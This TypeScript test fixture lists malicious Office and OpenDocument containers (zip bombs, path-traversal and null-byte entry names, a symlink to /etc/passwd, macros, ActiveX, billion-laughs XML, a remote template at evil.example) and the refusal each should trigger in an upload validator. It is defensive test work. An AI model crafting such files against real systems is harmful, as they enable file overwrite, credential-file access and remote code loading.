import { bad, type BadFile } from './bad-file';
import { WORD, contentTypes, docx, oldOffice, openDocument, rels, xlsx } from './office';
import { zip, type ZipEntry } from './zip';

const ZEROS = Buffer.alloc(2 * 1024 * 1024);
const LINK = (0o120777 << 16) >>> 0;
const EXTERNAL =
  '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>';

const many = (count: number): ZipEntry[] =>
  Array.from({ length: count }, (_, index) => ({ name: `word/${index}.xml`, content: '<a/>' }));
const word = (
  what: string,
  entries: readonly ZipEntry[],
  refusal: BadFile['refusal'] = 'unsafe_file',
): BadFile => bad(what, 'plan.docx', docx(entries), refusal);

/** Office files that are bombs, lie about what they hold, carry programs or are locked. */
export const BAD_CONTAINERS: readonly BadFile[] = [
  word('a bomb: two megabytes of nothing', [{ name: 'word/a.xml', content: ZEROS }]),
  word('a bomb that says it is larger than everything', [
    { name: 'word/a.xml', content: 'x', claims: { size: 201 * 1024 * 1024 } },
  ]),
  word('a bomb that says it is small', [{ name: 'word/a.xml', content: ZEROS, claims: { size: 1_000 } }]),
  word('two entries over the same bytes', [
    { name: 'word/a.xml', content: 'a'.repeat(100) },
    { name: 'word/b.xml', content: 'a'.repeat(100), claims: { offset: 0 } },
  ]),
  word('998 entries too many for its three', many(998)),
  bad(
    'a directory that promises more than is there',
    'plan.docx',
    docx([], { claimedEntries: 9 }),
    'unsafe_file',
  ),
  bad('a directory of 60 000 entries', 'plan.docx', docx([], { claimedEntries: 60_000 }), 'unsafe_file'),
  bad(
    'something before the archive',
    'plan.docx',
    docx([], { before: Buffer.from('PK\x03\x04 hidden') }),
    'unsafe_file',
  ),
  bad('an archive that was cut off', 'plan.docx', docx().subarray(0, -30), 'file_damaged'),
  bad(
    'an archive of nothing',
    'plan.docx',
    Buffer.concat([Buffer.from('PK\x03\x04'), zip([])]),
    'file_damaged',
  ),
  word('an archive inside', [{ name: 'word/media/a.png', content: zip(many(2)) }]),
  word('a workbook inside', [{ name: 'word/embeddings/tall.xlsx', content: xlsx() }]),
  word('a program inside', [{ name: 'word/media/a.png', content: 'MZ\x90\0' }]),
  word('an object of old Office inside', [
    { name: 'word/embeddings/oleObject1.bin', content: oldOffice('x') },
  ]),
  word('a way out of its folder', [{ name: '../../etc/cron.d/evil', content: 'x' }]),
  word('a name from the root', [{ name: '/etc/passwd', content: 'x' }]),
  word('a name of Windows', [{ name: 'word\\..\\..\\evil.xml', content: 'x' }]),
  word('a name that ends in the middle', [{ name: 'word/a.xml\0.exe', content: 'x' }]),
  word('the same name twice', [
    { name: 'word/a.xml', content: 'a' },
    { name: 'WORD/A.xml', content: 'b' },
  ]),
  word('one name in the directory, another at the file', [
    { name: 'word/a.xml', content: 'a', claims: { localName: 'word/b.xml' } },
  ]),
  word('a link to elsewhere', [{ name: 'word/a.xml', content: '/etc/passwd', claims: { attributes: LINK } }]),
  word('a way of packing that nobody knows', [{ name: 'word/a.xml', content: 'a', claims: { method: 12 } }]),
  word(
    'an entry under a password',
    [{ name: 'word/a.xml', content: 'a', claims: { flags: 1 } }],
    'file_encrypted',
  ),
  bad('a document under a password', 'plan.docx', oldOffice('EncryptedPackage'), 'file_encrypted'),
  word('macros', [{ name: 'word/vbaProject.bin', content: 'x' }]),
  word('the type of a document with macros', [
    contentTypes('word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
  ]),
  word('macros among its types alone', [
    contentTypes(
      'word/document.xml',
      WORD,
      '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    ),
  ]),
  word('a control that acts', [{ name: 'word/activeX/activeX1.xml', content: '<x/>' }]),
  word('a template fetched from elsewhere', [rels('word/_rels/settings.xml.rels', EXTERNAL)]),
  word('a billion laughs', [
    { name: 'word/a.xml', content: '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>' },
  ]),
  bad(
    'an OpenDocument of another kind',
    'plan.odt',
    openDocument('text', { type: 'application/x-evil' }),
    'wrong_file_type',
  ),
  bad(
    'an OpenDocument that packs its type',
    'plan.odt',
    openDocument('text', { packedType: true }),
    'wrong_file_type',
  ),
  bad(
    'an OpenDocument under a password',
    'plan.odt',
    openDocument('text', { manifest: '<manifest:encryption-data/>' }),
    'file_encrypted',
  ),
  bad(
    'an OpenDocument with macros',
    'tall.ods',
    openDocument('spreadsheet', { more: [{ name: 'Basic/Standard/Module1.xml', content: '<x/>' }] }),
    'unsafe_file',
  ),
];
